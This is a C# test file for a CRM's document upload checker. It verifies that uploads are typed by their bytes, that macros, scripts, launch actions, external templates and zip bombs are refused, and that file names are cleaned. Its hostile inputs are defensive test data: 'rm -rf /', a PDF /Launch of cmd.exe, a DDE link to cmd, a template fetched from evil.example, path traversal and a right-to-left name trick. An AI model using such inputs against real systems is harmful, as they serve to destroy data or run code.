using System.IO.Compression;
using System.Text;
using Granary.Ocrm.Documents;
using Granary.Ocrm.Documents.Content;

namespace Granary.Ocrm.Tests;

/// <summary>What a file is taken for by its bytes (docs/cases.md, DOC); the files were made by other software (Files/make.mjs).</summary>
public sealed class DocumentContentTests
{
    private static readonly OcrmLimits Limits = new();

    [Theory, Trait("Case", "DOC-01")]
    [InlineData("photo.jpg", "image/jpeg")]
    [InlineData("progressive.jpg", "image/jpeg")]
    [InlineData("picture.png", "image/png")]
    [InlineData("picture.webp", "image/webp")]
    [InlineData("letter.pdf", "application/pdf")]
    [InlineData("letter.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]
    [InlineData("table.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")]
    public void A_file_is_what_its_bytes_are_and_no_name_makes_it_another(string file, string type)
    {
        Assert.Equal((null, type), Seen(Read(file), Path.GetExtension(file)));
        foreach (var extension in FileContent.Extensions.Append(".exe").Append(""))
        {
            var same = extension == Path.GetExtension(file) || (extension == ".jpeg" && type == "image/jpeg");
            Assert.Equal(same ? null : Flaw.Name, Seen(Read(file), extension).Flaw);
        }
    }

    [Theory, Trait("Case", "DOC-01")]
    [InlineData("姓名,金额\r\n王芳,1\r\n", "utf-8", ".csv", "text/csv; charset=utf-8")]
    [InlineData("姓名,金额\r\n王芳,1\r\n", "gb18030", ".csv", "text/csv; charset=gb18030")]
    [InlineData("拜访记录", "gb18030", ".txt", "text/plain; charset=gb18030")]
    public void Text_is_whole_UTF_8_or_GB18030(string text, string charset, string extension, string type)
    {
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        var bytes = Encoding.GetEncoding(charset).GetBytes(text);
        Assert.Equal((null, type), Seen(bytes, extension));
        Assert.Equal(Flaw.Name, Seen(bytes, ".pdf").Flaw);
        Assert.Equal(Flaw.Type, Seen([.. bytes, 0xFF], extension).Flaw);
    }

    [Theory, Trait("Case", "DOC-02")]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>")]
    [InlineData("\uFEFF<!DOCTYPE html><html></html>")]
    [InlineData("#!/bin/sh\nrm -rf /\n")]
    [InlineData("MZ\u0090\0\u0003\0")]
    public void Markup_and_programs_are_refused_whatever_they_are_called(string content)
    {
        foreach (var extension in FileContent.Extensions)
        {
            Assert.Equal(Flaw.Type, Seen(Encoding.UTF8.GetBytes(content), extension).Flaw);
        }
    }

    [Theory, Trait("Case", "DOC-02")]
    [InlineData("script.pdf")]
    [InlineData("attached.pdf")]
    public void A_PDF_with_a_script_or_a_file_inside_is_refused_also_where_it_is_packed(string file)
    {
        var bytes = Read(file);
        Assert.DoesNotContain("/JavaScript", Encoding.Latin1.GetString(bytes), StringComparison.Ordinal);
        Assert.Equal(Flaw.Active, Seen(bytes, ".pdf").Flaw);
    }

    [Theory, Trait("Case", "DOC-02")]
    [InlineData("1 0 obj <</S /Java#53cript /JS (1)>> endobj", nameof(Flaw.Active))]
    [InlineData("1 0 obj <</S/Launch/F(cmd.exe)>> endobj", nameof(Flaw.Active))]
    [InlineData("trailer <</Encrypt 5 0 R>>", nameof(Flaw.Encrypted))]
    [InlineData("1 0 obj <</Type/ObjStm/Filter/ASCIIHexDecode>>stream\n2F4A53>\nendstream endobj", nameof(Flaw.Damaged))]
    public void A_PDF_is_looked_through_for_what_acts_by_itself(string addition, string flaw) =>
        Assert.Equal(flaw, Seen([.. "%PDF-1.7\n"u8, .. Encoding.ASCII.GetBytes(addition), .. "\n%%EOF\n"u8], ".pdf").Flaw.ToString());

    [Theory, Trait("Case", "DOC-02")]
    [InlineData("letter.docx", "word/vbaProject.bin", "x")]
    [InlineData("letter.docx", "word/embeddings/oleObject1.bin", "x")]
    [InlineData("letter.docx", "word/_rels/settings.xml.rels", "<Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/>")]
    [InlineData("table.xlsx", "xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>")]
    public void An_office_file_with_a_macro_an_object_or_something_to_fetch_is_refused(string file, string part, string content) =>
        Assert.Equal(Flaw.Active, Seen(With(file, part, Encoding.UTF8.GetBytes(content)), Path.GetExtension(file)).Flaw);

    [Fact, Trait("Case", "DOC-02")]
    public void What_is_protected_by_a_password_cannot_be_looked_through_and_is_refused() =>
        Assert.Equal(Flaw.Encrypted, Seen([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]], ".xlsx").Flaw);

    [Fact, Trait("Case", "DOC-02")]
    public void What_unpacks_to_more_than_a_document_has_is_not_unpacked()
    {
        var small = new OcrmLimits { DocumentUnpacked = 100_000 };
        Assert.Equal(Flaw.Unpacks, FileContent.Check(With("table.xlsx", "xl/media/image1.png", new byte[200_000]), ".xlsx", small).Flaw);
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionMode.Compress, leaveOpen: true))
        {
            zlib.Write(new byte[200_000]);
        }

        byte[] bomb = [.. "%PDF-1.7\n1 0 obj <</Filter/FlateDecode>>\nstream\n"u8, .. packed.ToArray(), .. "\nendstream endobj\n%%EOF\n"u8];
        Assert.Equal(Flaw.Unpacks, FileContent.Check(bomb, ".pdf", small).Flaw);
        Assert.Null(FileContent.Check(bomb, ".pdf", Limits).Flaw);
        Assert.Equal(Flaw.Unpacks, FileContent.Check(Read("table.xlsx"), ".xlsx", new OcrmLimits { DocumentEntries = 3 }).Flaw);
    }

    [Theory, Trait("Case", "DOC-03")]
    [InlineData("photo.jpg")]
    [InlineData("progressive.jpg")]
    [InlineData("picture.png")]
    [InlineData("picture.webp")]
    public void A_picture_is_kept_without_where_and_with_what_it_was_taken_and_without_what_hangs_behind_it(string file)
    {
        var bytes = Read(file);
        var kept = FileContent.Check([.. bytes, .. "PK\u0003\u0004"u8], Path.GetExtension(file), Limits).Bytes.ToArray();
        var text = Encoding.Latin1.GetString(kept);
        Assert.All(["GRANARY-CAMERA", "PK\u0003\u0004"], hidden => Assert.DoesNotContain(hidden, text, StringComparison.Ordinal));
        // Which way is up stays: 6 is a quarter turn.
        Assert.Equal(file == "photo.jpg", text.Contains("Exif\0\0MM\0*\0\0\0\u0008\0\u0001\u0001\u0012\0\u0003\0\0\0\u0001\0\u0006", StringComparison.Ordinal));
        Assert.Equal(kept, FileContent.Check(kept, Path.GetExtension(file), Limits).Bytes.ToArray());
    }

    [Theory, Trait("Case", "DOC-03")]
    [InlineData("photo.jpg")]
    [InlineData("picture.png")]
    [InlineData("picture.webp")]
    [InlineData("letter.docx")]
    [InlineData("letter.pdf")]
    public void A_file_that_is_cut_off_anywhere_is_refused_by_name_and_never_breaks_anything(string file)
    {
        var bytes = Read(file);
        for (var length = 1; length < bytes.Length - 2; length += 1 + (bytes.Length / 400))
        {
            Assert.NotNull(FileContent.Check(bytes[..length], Path.GetExtension(file), Limits).Flaw);
        }
    }

    [Fact, Trait("Case", "DOC-03")]
    public void A_picture_that_would_fill_a_browser_s_memory_is_refused()
    {
        var few = new OcrmLimits { DocumentPixels = 48 * 32 - 1 };
        Assert.All(["photo.jpg", "picture.png", "picture.webp"], file => Assert.Equal(Flaw.Pixels, FileContent.Check(Read(file), Path.GetExtension(file), few).Flaw));
    }

    [Theory, Trait("Case", "DOC-04")]
    [InlineData("C:\\Users\\wang\\合同.pdf", "合同.pdf")]
    [InlineData("../../etc/contract.pdf", "contract.pdf")]
    [InlineData("contract\u202Efdp.pdf", "contractfdp.pdf")]
    [InlineData(" a\r\nb<>.pdf ", "ab.pdf")]
    public void A_name_is_one_line_without_a_path(string sent, string name) => Assert.Equal(name, SentFile.NameOf(sent, 120));

    [Fact, Trait("Case", "DOC-04")]
    public void A_long_name_keeps_its_extension() => Assert.Equal(new string('长', 6) + ".pdf", SentFile.NameOf(new string('长', 300) + ".pdf", 10));

    internal static byte[] Read(string file) => File.ReadAllBytes(Path.Combine(AppContext.BaseDirectory, "Files", file));

    private static (Flaw? Flaw, string Type) Seen(byte[] bytes, string extension)
    {
        var content = FileContent.Check(bytes, extension, Limits);
        return (content.Flaw, content.Type);
    }

    /// <summary>An archive with one more part.</summary>
    private static byte[] With(string file, string part, byte[] content)
    {
        using var copy = new MemoryStream();
        copy.Write(Read(file));
        using (var archive = new ZipArchive(copy, ZipArchiveMode.Update, leaveOpen: true))
        {
            archive.GetEntry(part)?.Delete();
            using var entry = archive.CreateEntry(part).Open();
            entry.Write(content);
        }

        return copy.ToArray();
    }
}
